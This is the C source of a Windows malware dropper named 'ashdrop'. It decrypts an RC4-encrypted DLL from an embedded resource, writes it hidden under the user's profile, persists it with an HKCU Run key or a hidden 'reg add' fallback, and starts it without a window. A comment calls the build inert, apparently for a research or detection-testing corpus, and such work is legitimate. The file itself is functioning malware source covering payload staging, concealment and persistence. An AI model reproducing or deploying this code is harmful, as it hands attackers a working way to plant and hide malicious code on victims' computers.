/* ashdrop - dropper: carries a DLL in its RCDATA resource ADRPAYLOAD, writes it under the user's
 * profile, hides it, and persists it with a Run key (falling back to `reg add`).  The v3 resource is
 * RC4-encrypted with CFG_RC4_KEY.  Inert: see common/inert.h. */
#include <windows.h>
#include "config.h"
#include "../../common/inert.h"

#ifdef CFG_RC4_KEY
static void rc4(unsigned char *buf, DWORD len, const char *key)
{
    unsigned char s[256], t;
    unsigned i, j = 0, k, n = (unsigned)lstrlenA(key);
    for (i = 0; i < 256; i++)
        s[i] = (unsigned char)i;
    for (i = 0; i < 256; i++) {
        j = (j + s[i] + (unsigned char)key[i % n]) & 0xff;
        t = s[i]; s[i] = s[j]; s[j] = t;
    }
    for (i = j = 0, k = 0; k < len; k++) {
        i = (i + 1) & 0xff;
        j = (j + s[i]) & 0xff;
        t = s[i]; s[i] = s[j]; s[j] = t;
        buf[k] ^= s[(s[i] + s[j]) & 0xff];
    }
}
#endif

static int family_run(void)
{
    char dir[MAX_PATH], path[MAX_PATH], data[MAX_PATH + 64], cmd[1024];
    HANDLE mutex, file;
    HRSRC res;
    HGLOBAL glob;
    DWORD size, written = 0;
    unsigned char *buf;
    HKEY key;
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;

    mutex = CreateMutexA(NULL, TRUE, CFG_MUTEX);
    if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS)
        return 1;
    res = FindResourceA(NULL, CFG_RES_NAME, (LPCSTR)RT_RCDATA);
    if (res == NULL)
        return 2;
    size = SizeofResource(NULL, res);
    glob = LoadResource(NULL, res);
    buf = HeapAlloc(GetProcessHeap(), 0, size);
    if (glob == NULL || buf == NULL)
        return 3;
    CopyMemory(buf, LockResource(glob), size);
#ifdef CFG_RC4_KEY
    rc4(buf, size, CFG_RC4_KEY);
#endif
    ExpandEnvironmentStringsA(CFG_DROP_DIR, dir, sizeof dir);
    CreateDirectoryA(dir, NULL);
    ExpandEnvironmentStringsA(CFG_DROP_PATH, path, sizeof path);
    file = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
    if (file == INVALID_HANDLE_VALUE)
        return 4;
    WriteFile(file, buf, size, &written, NULL);
    CloseHandle(file);
    SetFileAttributesA(path, FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM);

    wsprintfA(data, CFG_RUN_DATA_FMT, path);
    if (RegCreateKeyExA(HKEY_CURRENT_USER, CFG_RUN_KEY, 0, NULL, 0, KEY_SET_VALUE, NULL, &key, NULL)
        == ERROR_SUCCESS) {
        RegSetValueExA(key, CFG_RUN_VALUE, 0, REG_SZ, (const BYTE *)data, (DWORD)lstrlenA(data) + 1);
        RegCloseKey(key);
    } else {
        wsprintfA(cmd, CFG_REG_CMD, CFG_RUN_VALUE, data);
        WinExec(cmd, SW_HIDE);
    }
    ZeroMemory(&si, sizeof si);
    si.cb = sizeof si;
    if (CreateProcessA(NULL, data, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi)) {
        CloseHandle(pi.hThread);
        CloseHandle(pi.hProcess);
    }
    return 0;
}

#include "../../common/winentry.h"
